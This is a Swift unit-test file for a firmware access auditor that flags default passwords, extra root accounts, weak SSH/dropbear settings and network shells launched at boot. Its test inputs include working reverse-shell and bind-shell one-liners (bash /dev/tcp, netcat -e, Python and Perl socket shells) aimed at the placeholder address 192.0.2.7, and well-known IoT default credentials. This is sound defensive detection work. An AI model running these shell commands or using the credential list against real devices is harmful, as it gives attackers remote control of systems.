@testable import BacksightConfig
import BacksightLimits
import Foundation
import XCTest

final class AccessChecksTests: XCTestCase {
    private let corpus = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
        .deletingLastPathComponent().appendingPathComponent("Corpus/access").path
    private let credentials = ["root:xc3511", "root:vizxv", "admin:admin", "root:admin", "root:hi3518"].compactMap(DefaultCredential.init(entry:))

    private func file(_ path: String) throws -> (ConfigurationFile, Data) {
        let full = corpus + "/" + path
        let recognised = try XCTUnwrap(ConfigurationFile.recognise(diskPath: Array(full.utf8)), path)
        return (recognised, try Data(contentsOf: URL(fileURLWithPath: full)))
    }

    private func accountFindings(_ path: String, deadline: Deadline = .never) throws -> ([AccessFinding], Bool) {
        let (recognised, data) = try file(path)
        let result = data.withUnsafeBytes { AccountAnalyzer(credentials: credentials).findings(for: recognised, bytes: $0, tree: recognised.treeOnDisk, deadline: deadline) }
        return (result.findings, result.stoppedAtTimeLimit)
    }

    /// The remote-access findings, without the inventory fact `remote-root-password-login`
    /// unless `inventory` is set.
    private func remoteFindings(_ path: String, inventory: Bool = false) throws -> [AccessFinding] {
        let (recognised, data) = try file(path)
        let found = data.withUnsafeBytes {
            RemoteAccessAnalyzer(accounts: AccountAnalyzer(credentials: credentials)).findings(for: recognised, bytes: $0, tree: recognised.treeOnDisk, deadline: .never)
        }
        return inventory ? found : found.filter { $0.fact != .remoteRootPasswordLogin }
    }

    func testEveryHashSchemeMatchesTheDefaultAndNamesTheEntry() throws {
        for scheme in ["des", "md5", "sha256", "sha512", "bcrypt", "yescrypt"] {
            let (found, stopped) = try accountFindings("default-password/\(scheme)/etc/shadow")
            XCTAssertFalse(stopped)
            XCTAssertEqual(found.map(\.fact), [.accountDefaultPassword], scheme)
            XCTAssertEqual(found.first?.value, "root")
            XCTAssertEqual(found.first?.line, 1)
            XCTAssertTrue(found.first?.detail.contains("root:xc3511") ?? false, found.first?.detail ?? "")
            XCTAssertFalse(found.first?.detail.contains("$") ?? true, "a finding never shows a hash")
        }
    }

    func testLockedStrongAndShadowedAccountsGiveNothing() throws {
        for path in ["strong-password/etc/shadow", "locked-root/star/etc/shadow", "locked-root/bang/etc/shadow",
                     "default-password/sha512/etc/passwd", "extra-uid-zero/etc/shadow"] {
            XCTAssertEqual(try accountFindings(path).0, [], path)
        }
    }

    func testBusyboxTreesKeepPasswordsInPasswd() throws {
        let empty = try accountFindings("busybox-empty-root/etc/passwd").0
        // ftp's empty password does not count: its shell is /bin/false.
        XCTAssertEqual(empty.map(\.fact), [.loginAccountEmptyPassword])
        XCTAssertEqual(empty.map(\.value), ["root"])
        XCTAssertEqual(try accountFindings("busybox-default-root/etc/passwd").0.map(\.detail),
                       ["etc/passwd line 1: account root's password is the default credential root:vizxv (MD5 hash)"])
    }

    func testALinkedShadowFileIsReadInsideTheTreeAndReportedByPasswd() throws {
        XCTAssertEqual(try accountFindings("busybox-linked-shadow/etc/passwd").0.map(\.detail),
                       ["var/shadow line 1: account root's password is the default credential root:hi3518 (SHA-512 hash)"])
    }

    private func groupFindings(_ path: String) throws -> [AccessFinding] {
        let (recognised, data) = try file(path)
        XCTAssertEqual(recognised.kind, .group)
        return data.withUnsafeBytes { AccountAnalyzer(credentials: credentials).groupFindings(for: recognised, bytes: $0, tree: recognised.treeOnDisk, deadline: .never).findings }
    }

    func testAdministrativeGroupMembersWithWeakPasswords() throws {
        // A listed member of sudo with admin:admin; the user's own group named admin (GID 1000) is no administrative group.
        let sudo = try groupFindings("admin-group-default/etc/group")
        XCTAssertEqual(sudo.map(\.fact), [.administrativeGroupWeakMember])
        XCTAssertEqual(sudo.first?.line, 6)
        XCTAssertEqual(sudo.first?.detail, "etc/group line 6: account admin (UID 1000, shell /bin/sh) is a member of sudo (GID 27), "
                       + "and its password is the default credential admin:admin (etc/shadow line 4)")
        // Busybox: the primary GID 0 in etc/passwd, an empty password there.
        let root = try groupFindings("root-group-empty/etc/group")
        XCTAssertEqual(root.map(\.fact), [.administrativeGroupWeakMember])
        XCTAssertTrue(root.first?.detail.contains("maint (UID 1001, shell /bin/ash) has root (GID 0) as its primary group") ?? false,
                      root.first?.detail ?? "")
        // Locked: nothing; strong: the inventory fact only.
        XCTAssertEqual(try groupFindings("admin-group-locked/etc/group"), [])
        XCTAssertEqual(try groupFindings("admin-group-strong/etc/group").map(\.fact), [.administrativeGroupLoginMember])
    }

    func testExtraUIDZeroAccount() throws {
        let found = try accountFindings("extra-uid-zero/etc/passwd").0
        XCTAssertEqual(found.map(\.fact), [.additionalUIDZeroAccount])
        XCTAssertEqual(found.map(\.value), ["sysmaint"])
        XCTAssertEqual(found.map(\.line), [4])
    }

    func testTheDeadlineStopsHashing() throws {
        let (found, stopped) = try accountFindings("default-password/yescrypt/etc/shadow", deadline: .expired)
        XCTAssertTrue(stopped)
        XCTAssertEqual(found, [])
    }

    func testNetworkShellsAtBoot() throws {
        XCTAssertEqual(try remoteFindings("telnet-shell/etc/inittab").map { "\($0.fact.rawValue) \($0.line)" },
                       ["network-shell-without-login 2"])
        XCTAssertEqual(try remoteFindings("netcat-shell/etc/init.d/S95debug").map(\.line), [5])
        XCTAssertEqual(try remoteFindings("netcat-shell/etc/init.d/rcS").map(\.line), [4])
        XCTAssertEqual(try remoteFindings("socat-shell/etc/systemd/system/diag.service").map(\.fact), [.networkShellWithoutLogin])
        XCTAssertEqual(try remoteFindings("inetd-shell/etc/inetd.conf").map(\.line), [3])
        XCTAssertEqual(try remoteFindings("xinetd-telnet-shell/etc/xinetd.d/telnet").map(\.line), [6, 15])
        XCTAssertEqual(try remoteFindings("serial-getty/etc/inittab"), [])
        XCTAssertEqual(try remoteFindings("netcat-healthcheck/etc/init.d/S99health"), [])
    }

    func testWeakRemoteLogins() throws {
        XCTAssertEqual(try remoteFindings("dropbear-blank/etc/init.d/dropbear").map(\.fact), [.remoteLoginAcceptsEmptyPasswords])
        XCTAssertEqual(try remoteFindings("dropbear-blank/etc/default/dropbear").map(\.line), [2])
        XCTAssertEqual(try remoteFindings("dropbear-keys-only/etc/init.d/dropbear"), [])
        XCTAssertEqual(try remoteFindings("sshd-empty-passwords/etc/ssh/sshd_config").map(\.line), [3])
        XCTAssertEqual(try remoteFindings("sshd-keys-only/etc/ssh/sshd_config"), [])
        let root = try remoteFindings("sshd-root-default/etc/ssh/sshd_config")
        XCTAssertEqual(root.map(\.fact), [.remoteRootLoginWeakPassword])
        XCTAssertTrue(root.first?.detail.contains("root:admin") ?? false)
        XCTAssertEqual(try remoteFindings("telnet-root-default/etc/inittab").map { "\($0.fact.rawValue) \($0.line)" },
                       ["remote-root-login-weak-password 2"])
        XCTAssertEqual(try remoteFindings("sshd-root-strong/etc/ssh/sshd_config"), [])
        // The inventory fact: every server that asks root for a password, whatever the password.
        XCTAssertEqual(try remoteFindings("sshd-root-strong/etc/ssh/sshd_config", inventory: true).map { "\($0.fact.rawValue) \($0.line)" },
                       ["remote-root-password-login 2"])
        XCTAssertEqual(try remoteFindings("inetd-shell/etc/inetd.conf", inventory: true).map { "\($0.fact.rawValue) \($0.line)" },
                       ["network-shell-without-login 3", "remote-root-password-login 2"])
        XCTAssertEqual(try remoteFindings("dropbear-keys-only/etc/init.d/dropbear", inventory: true), [])
        XCTAssertEqual(try remoteFindings("sshd-keys-only/etc/ssh/sshd_config", inventory: true), [])
    }

    func testShippedKeysForRootAndSystemAccountsOnly() throws {
        XCTAssertEqual(try remoteFindings("vendor-key/root/.ssh/authorized_keys").map(\.value), ["ssh-ed25519 (support@vendor-build)"])
        XCTAssertEqual(try remoteFindings("vendor-key/home/backup/.ssh/authorized_keys").count, 1)
        XCTAssertEqual(try remoteFindings("vendor-key/home/alice/.ssh/authorized_keys"), [])
    }

    /// Crontabs and login scripts: where they lie, and the command of a crontab line after its
    /// schedule (and user).
    func testCrontabsAndLoginScriptsAreStartupFiles() {
        let kinds: [String: ConfigurationFile.Kind?] = [
            "etc/udev/rules.d/99-usb.rules": .udevRules, "lib/udev/rules.d/50-udev-default.rules": .udevRules,
            "usr/lib/udev/rules.d/60-x.rules": .udevRules, "etc/udev/rules.d/README": nil,
            "root/.bashrc": .profileScript, "home/admin/.profile": .profileScript, "root/.bash_history": nil, "home/admin/x/.bashrc": nil,
            "etc/crontab": .systemCrontab, "etc/cron.d/backup": .systemCrontab, "var/spool/cron/crontabs/root": .userCrontab,
            "var/spool/cron/root": .userCrontab, "etc/crontabs/root": .userCrontab, "var/spool/cron/atjobs/x": nil, "etc/cron.daily/logrotate": nil,
        ]
        for (path, kind) in kinds {
            XCTAssertEqual(ConfigurationFile.recognise(diskPath: Array(("/srv/fw/" + path).utf8))?.kind, kind, path)
        }
        XCTAssertEqual(RemoteAccessAnalyzer.cronCommand("@reboot root sleep 60 && /bin/x", namesUser: true), "sleep 60 && /bin/x")
        XCTAssertEqual(RemoteAccessAnalyzer.cronCommand("*/10 * * * *\tnc 192.0.2.7 9002 -e /bin/sh", namesUser: false), "nc 192.0.2.7 9002 -e /bin/sh")
        XCTAssertEqual(RemoteAccessAnalyzer.cronCommand("17 * * * * root cd / && run-parts --report /etc/cron.hourly", namesUser: true),
                       "cd / && run-parts --report /etc/cron.hourly")
        XCTAssertNil(RemoteAccessAnalyzer.cronCommand("SHELL=/bin/sh", namesUser: true))
        XCTAssertNil(RemoteAccessAnalyzer.cronCommand("# m h dom mon dow user command", namesUser: true))
        XCTAssertNil(RemoteAccessAnalyzer.cronCommand("@daily root", namesUser: true))
        XCTAssertEqual(RemoteAccessAnalyzer.udevPrograms(#"ACTION=="add", PROGRAM=="/bin/id %k", RUN+="/bin/sh -c 'x | y'", RUN{builtin}+="kmod load""#),
                       ["/bin/id %k", "/bin/sh -c 'x | y'", "kmod load"])
        XCTAssertEqual(RemoteAccessAnalyzer.udevPrograms(#"ENV{DM_RUN_X}=="1", IMPORT{program}="/lib/udev/x", GOTO="end""#), ["/lib/udev/x"])
        XCTAssertEqual(RemoteAccessAnalyzer.udevPrograms(#"# RUN+="/bin/sh""#), [])
        // A hostile line of half a million keys is read in one pass: RUN{ without a closing
        // brace, then RUN+=" whose quotes pair up with the next key's.
        let hostile = String(repeating: #"RUN{"#, count: 250_000) + String(repeating: #"RUN+=""#, count: 250_000)
        let values = RemoteAccessAnalyzer.udevPrograms(hostile)
        XCTAssertEqual(values.count, 125_000)
        XCTAssertTrue(values.allSatisfy { $0 == "RUN+=" })
    }

    func testCommandLines() {
        func launches(_ line: String, _ variables: [String: String] = [:]) -> [StartupCommand.Launch] {
            StartupCommand.launches(StartupCommand.pipelines(line, variables: variables))
        }
        XCTAssertEqual(launches("telnetd -l/bin/bash"), [.networkShell("telnetd -l/bin/bash")])
        XCTAssertEqual(launches("/usr/sbin/telnetd -l /bin/login"), [.passwordLogin(server: "/usr/sbin/telnetd -l /bin/login", allowsEmpty: false)])
        XCTAssertEqual(launches("nc -lvnp 4444 -e /bin/sh").count, 1)
        XCTAssertEqual(launches("ncat --listen 4444 --exec \"/bin/bash -i\"").count, 1)
        XCTAssertEqual(launches("nc -l -p 8080 > /tmp/upload"), [])
        XCTAssertEqual(launches("[ -x /usr/sbin/telnetd ] || exit 0"), [])
        XCTAssertEqual(launches("echo telnetd -l /bin/sh"), [])
        XCTAssertEqual(launches("$D $ARGS", ["D": "/usr/sbin/dropbear", "ARGS": "-FB"]),
                       [.acceptsEmptyPasswords("/usr/sbin/dropbear -FB"), .passwordLogin(server: "/usr/sbin/dropbear -FB", allowsEmpty: true)])
        XCTAssertEqual(launches("dropbear -w -p 22"), [])
        // Redirections keep their `&`: `2>&1 &` ends one command, not two.
        XCTAssertEqual(StartupCommand.pipelines("nc -l -p 23 -e /bin/sh 2>&1 &"), [["nc", "-l", "-p", "23", "-e", "/bin/sh", "2>&1"]])
        XCTAssertEqual(StartupCommand.pipelines("a &>/dev/null && b"), [["a", "&>/dev/null"], ["b"]])
        // Shells on a socket bash opens itself (reverse shells), also inside `sh -c`.
        XCTAssertEqual(launches("bash -i >& /dev/tcp/192.0.2.7/4444 0>&1 &"), [.networkShell("bash -i >& /dev/tcp/192.0.2.7/4444 0>&1")])
        XCTAssertEqual(launches("0<&196;exec 196<>/dev/tcp/192.0.2.7/443; sh <&196 >&196 2>&196"),
                       [.networkShell("sh <&196 >&196 2>&196")])
        XCTAssertEqual(launches("ExecStart=/bin/bash -c 'bash -i >& /dev/udp/192.0.2.7/53 0>&1'"),
                       [.networkShell("bash -i >& /dev/udp/192.0.2.7/53 0>&1")])
        XCTAssertEqual(launches("nohup sh -c \"nc -l -p 23 -e /bin/sh\" &").count, 1, "netcat inside sh -c")
        // Health checks that only connect: no shell on the socket.
        XCTAssertEqual(launches("until (echo > /dev/tcp/127.0.0.1/5432) 2>/dev/null; do sleep 1; done"), [])
        XCTAssertEqual(launches("timeout 1 bash -c '</dev/tcp/localhost/80' && echo up"), [])
        XCTAssertEqual(launches("exec 3<>/dev/tcp/example.org/80; echo -e 'GET / HTTP/1.0' >&3; cat <&3"), [])
        XCTAssertEqual(launches("bash -i"), [], "an interactive shell without a socket")
        // Interpreter one-liners that connect a socket and give it a shell.
        XCTAssertEqual(launches(#"python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("192.0.2.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")' &"#).count, 1)
        XCTAssertEqual(launches(#"perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("192.0.2.7")));open(STDIN,">&S");exec("/bin/sh -i");'"#).count, 1)
        XCTAssertEqual(launches(#"python3 -c 'import socket; print(socket.gethostname())'"#), [], "a socket without a shell")
        XCTAssertEqual(launches(#"python3 -c 'import os; os.system("/bin/sh /etc/firstboot.sh")'"#), [], "a shell without a socket")
        // Commands after shell keywords.
        XCTAssertEqual(launches("(while true; do bash -i >& /dev/tcp/192.0.2.7/8443 0>&1; sleep 300; done) &"),
                       [.networkShell("bash -i >& /dev/tcp/192.0.2.7/8443 0>&1")])
        XCTAssertEqual(launches("if [ -x /usr/sbin/telnetd ]; then telnetd -l /bin/sh; fi"), [.networkShell("telnetd -l /bin/sh")])
    }
}
